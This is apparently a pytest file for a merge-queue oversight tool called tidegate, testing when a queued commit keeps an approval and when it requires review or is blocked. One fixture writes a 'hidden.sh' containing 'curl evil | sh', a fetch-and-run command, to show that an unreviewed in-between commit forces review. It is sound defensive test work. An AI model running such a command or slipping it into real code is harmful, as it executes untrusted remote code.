"""What a merge queue makes of an approved head, what only looks so, and what people push instead."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from queues import Queue, said, with_forge
from shops import BASE, HOLE, ROUTE, keys

from tidegate.cli.program import run
from tidegate.model.event import Refusal
from tidegate.model.oversight import OversightState
from tidegate.model.result import Decision

S = OversightState


def whys(queue: Queue, commit: str, base: str = "main") -> list[str]:
    return [one.why for one in said(queue.queue(commit, base)).uncounted]


@pytest.mark.parametrize("kind", ["merged", "squashed"])
def test_the_queues_commit_of_an_approved_head(kind: str, tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    head = queue.approved()
    result = queue.queue(getattr(queue, kind)())
    assert (result.decision, said(result).state) == (Decision.PASS, S.APPROVED)
    (given,) = said(result).given
    assert (given.person, given.landed, given.carried) == ("ben", head, "checked again")


def test_several_commits_are_a_push_whoever_made_them(tmp_path: Path) -> None:
    """What stands in between lands in the history, and nobody has seen it."""
    queue = Queue(tmp_path)
    head = queue.approved()
    between = queue.commit(queue.tree_with("main", {"hidden.sh": "curl evil | sh\n"}), "main")
    commit = queue.commit(queue.git.tree(head), between)
    result = queue.queue(commit)
    assert (result.decision, said(result).given) == (Decision.REVIEW, ())


def test_base_moved_beside_it_or_in_it(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    queue.git.switch("main")
    queue.git.commit("Elsewhere", {"other.py": "x = 2\n"})
    assert queue.queue(queue.squashed()).decision is Decision.PASS
    assert queue.queue(queue.merged()).decision is Decision.PASS
    queue.git.commit("Here", {"app.py": "# the shop\n" + BASE})
    commit = queue.merged()
    assert queue.queue(commit).decision is Decision.REVIEW
    assert "base moved since in what it reaches" in whys(queue, commit)[0]


def test_who_approved_what_no_recorded_decision_counts(tmp_path: Path) -> None:
    """Who pushed the head last is known to its own check alone."""
    queue = Queue(tmp_path)
    assert queue.run("record", "main..feature", key="ci") == 3
    queue.approve("ben")
    assert queue.queue(queue.merged()).decision is Decision.REVIEW
    assert "no recorded decision on that counts it" in whys(queue, queue.squashed())[0]


def test_an_approval_that_the_heads_last_decision_does_not_count(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    answer = tmp_path / "answer.json"
    words = ["check", "main..feature", "-C", str(tmp_path), "--pusher", "ben@example.com"]
    assert run([*words, "--output", f"json={answer}"]) == 3
    assert queue.run("record", "main..feature", "--result", str(answer), key="ci") == 3
    assert queue.queue(queue.squashed()).decision is Decision.REVIEW


@pytest.mark.parametrize("more", [{"app.py": BASE + ROUTE + "x = 1\n"}, {"other.py": "x = 2\n"}])
def test_a_line_more(more: dict[str, str], tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    tree = queue.tree_with(queue.merged(), more)
    for commit in (queue.merged(tree=tree), queue.commit(tree, "main")):
        result = queue.queue(commit)
        assert (result.decision, said(result).given) == (Decision.REVIEW, ())


def test_a_conflict_that_somebody_resolved(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    head = queue.approved()
    queue.git.switch("main")
    queue.git.commit("Here", {"app.py": BASE + ROUTE.replace("news", "olds")})
    for commit in (
        queue.commit(queue.git.tree(head), "main", head),
        queue.commit(queue.git.tree(head), "main"),
    ):
        result = queue.queue(commit)
        assert (result.decision, said(result).given) == (Decision.REVIEW, ())


def test_what_people_push_is_a_push(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    commit = queue.squashed(committer="cy@example.com")
    assert queue.queue(commit).decision is Decision.REVIEW
    assert "a new push voids it" in whys(queue, commit)[0]


def test_base_merged_into_the_head_is_a_push(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    head = queue.approved()
    queue.git.switch("main")
    queue.git.commit("Elsewhere", {"other.py": "x = 2\n"})
    commit = queue.commit(queue.merging(), head, "main")
    assert queue.queue(commit).decision is Decision.REVIEW
    assert "a new push voids it" in whys(queue, commit)[0]


def test_a_head_that_was_pushed_further(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    queue.git.commit("More", {"app.py": BASE + ROUTE + "x = 1\n"})
    assert "a new push voids it" in whys(queue, queue.merged())[0]
    result = queue.queue(queue.squashed())
    assert (result.decision, said(result).given) == (Decision.REVIEW, ())


def test_two_heads_in_one_queue(tmp_path: Path) -> None:
    """Each is held against the entry before it; both together nobody approved."""
    queue = Queue(tmp_path)
    queue.approved()
    queue.git.branch("second", "main")
    queue.git.commit("Second", {"second.py": BASE + ROUTE})
    queue.approved("dee", "second")
    for kind in ("merged", "squashed"):
        first = getattr(queue, kind)()
        second = getattr(queue, kind)("second", first)
        assert queue.queue(first).decision is Decision.PASS
        assert queue.queue(second, first).decision is Decision.PASS
        assert queue.queue(second).decision is Decision.REVIEW


# a squash that says less of who made it


def squash_of_two(tmp_path: Path) -> tuple[Queue, str]:
    """ben has written a part, and the squash does not say so."""
    queue = Queue(tmp_path)
    queue.git.git(
        "commit", "-q", "--allow-empty", "-m", "x", environment={"GIT_AUTHOR_EMAIL": "ben@example.com"}
    )
    queue.approve("ben")
    assert queue.run("record", "main..feature", key="ci") == 3
    return queue, queue.squashed()


def test_a_squash_loses_no_author(tmp_path: Path) -> None:
    queue, commit = squash_of_two(tmp_path)
    assert queue.queue(commit).decision is Decision.REVIEW
    assert queue.run("approve", f"main..{commit}", "--yes", key="ben") == 0
    result = queue.queue(commit)
    assert result.decision is Decision.REVIEW
    assert any("ben had a part in the change: author" in one.why for one in said(result).uncounted)
    queue.approved("dee")
    assert queue.queue(commit).decision is Decision.PASS


def test_an_author_that_is_forged_takes_part(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    commit = queue.commit(queue.merging(), "main", author="ben@example.com")
    assert queue.queue(commit).decision is Decision.REVIEW
    assert "ben had a part in the change" in whys(queue, commit)[0]
    stranger = queue.commit(queue.merging(), "main", author="eve@example.com")
    assert said(queue.queue(stranger)).state is S.UNKNOWN


def test_a_tool_that_only_the_head_names(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    message = "More\n\nCo-authored-by: Claude <noreply@anthropic.com>"
    queue.git.git("commit", "-q", "--allow-empty", "-m", message)
    queue.approved()
    assert queue.queue(queue.squashed()).decision is Decision.PASS


def clone(queue: Queue, place: Path, *branches: str) -> Path:
    """What CI has: these branches and the ledger."""
    subprocess.run(["git", "init", "-q", "-b", "none", str(place)], check=True)
    refs = [f"+refs/heads/{name}:refs/heads/{name}" for name in branches]
    words = ["fetch", "-q", str(queue.path), *refs, "+refs/tidegate/ledger:refs/tidegate/ledger"]
    subprocess.run(["git", "-C", str(place), *words], check=True, capture_output=True)
    return place


def test_a_head_that_is_not_here(tmp_path: Path) -> None:
    rules = {".tidegate/config.yaml": "version: 1\nledger: {repository: acme/shop}\n"}
    queue = Queue(tmp_path / "shop", rules)
    head = queue.approved()
    queue.git.git("branch", "queue", queue.squashed())
    place = clone(queue, tmp_path / "ci", "main", "queue")
    result = queue.check(directory=place, revision_range="main..queue")
    assert (result.decision, said(result).state) == (Decision.REVIEW, S.UNKNOWN)
    assert f"git fetch origin {head}" in said(result).unknown[0]
    subprocess.run(["git", "-C", str(place), "fetch", "-q", str(queue.path), "feature"], check=True)
    again = queue.check(directory=place, revision_range="main..queue")
    assert again.decision is Decision.PASS, "what was not there is asked for again"


def test_a_head_of_which_the_beginning_is_not_here(tmp_path: Path) -> None:
    """Somebody who is not seen may have written what comes before."""
    rules = {".tidegate/config.yaml": "version: 1\nledger: {repository: acme/shop}\n"}
    queue = Queue(tmp_path / "shop", rules)
    queue.git.commit("More", {"more.py": "y = 1\n"})
    head = queue.approved()
    queue.git.git("branch", "queue", queue.squashed())
    place = clone(queue, tmp_path / "ci", "main", "queue")
    words = ["fetch", "-q", "--depth=1", queue.path.as_uri(), "feature"]
    subprocess.run(["git", "-C", str(place), *words], check=True)
    result = queue.check(directory=place, revision_range="main..queue")
    assert (result.decision, said(result).state) == (Decision.REVIEW, S.UNKNOWN)
    assert f"git fetch origin {head}" in said(result).unknown[0]


def test_the_same_lines_elsewhere_in_the_file(tmp_path: Path) -> None:
    """Where what stands around them is alike their patch is the same; what counts is what merging gives."""
    body = "(request):\n    a = 1\n    b = 2\n    c = 3\n    d = 4\n    e = 5\n    f = 6\n    return a\n\n\n"
    first, second = f"def one{body}", f"def two{body}"
    more = {"    d = 4\n": "    d = 4\n    d += 1\n"}.popitem()
    rules = "version: 1\nsensitive_paths: [{paths: [app.py], tier: medium, reason: r}]\n"
    files = {"app.py": first + second, ".tidegate/config.yaml": rules}
    queue = Queue(tmp_path, files, {"app.py": first.replace(*more) + second})
    queue.approved()
    tree = queue.tree_with("main", {"app.py": first + second.replace(*more)})
    commit = queue.commit(tree, "main")
    assert queue.subject().diff_sha256 == queue.subject(revision_range=f"main..{commit}").diff_sha256
    assert queue.queue(commit).decision is Decision.REVIEW
    assert queue.queue(queue.squashed()).decision is Decision.PASS


# what else was said of the head


def test_who_refused_the_head_refused_what_lands_it(tmp_path: Path) -> None:
    queue = Queue(tmp_path)
    queue.approved()
    queue.say("dee", Refusal(subject=queue.subject(), reason="no tests"))
    for commit in (queue.merged(), queue.squashed()):
        result = queue.queue(commit)
        assert (result.decision, said(result).refused) == (Decision.BLOCK, ("dee: no tests",))


def test_the_glass_that_was_broken_for_the_head(tmp_path: Path) -> None:
    rules = {
        ".tidegate/config.yaml": "version: 1\nbreak_glass: {roles: [lead]}\n",
        ".tidegate/people.yaml": with_forge(ada=", roles: [lead]"),
    }
    queue = Queue(tmp_path, rules, {"app.py": BASE + HOLE})
    assert (
        queue.run("break-glass", "main..feature", "--incident", "I", "--reason", "r", "--yes", key="ada") == 0
    )
    for commit in (queue.merged(), queue.squashed()):
        result = queue.queue(commit)
        assert (result.decision, said(result).state) == (Decision.PASS, S.BYPASSED)
    tree = queue.tree_with(queue.merged(), {"other.py": "x = 2\n"})
    assert queue.queue(queue.merged(tree=tree)).decision is Decision.BLOCK


@pytest.mark.parametrize("signs", [True, False])
def test_where_a_lot_is_at_stake_the_heads_commits_are_signed(signs: bool, tmp_path: Path) -> None:
    rules = "version: 1\nsensitive_paths: [{paths: [app.py], tier: high, reason: r}]\n"
    queue = Queue(tmp_path, {".tidegate/config.yaml": rules})
    queue.git.git("reset", "-q", "--soft", "main")
    signing = ("-c", "gpg.format=ssh", "-c", f"user.signingKey={keys() / 'cy'}") if signs else ()
    queue.git.git(*signing, "commit", "-q", *(["-S"] if signs else []), "-m", "signed or not")
    queue.approve("ben")
    for commit in (queue.merged(), queue.squashed()):
        missing = said(queue.queue(commit)).missing
        assert any("not signed by those" in one.what for one in missing) is not signs
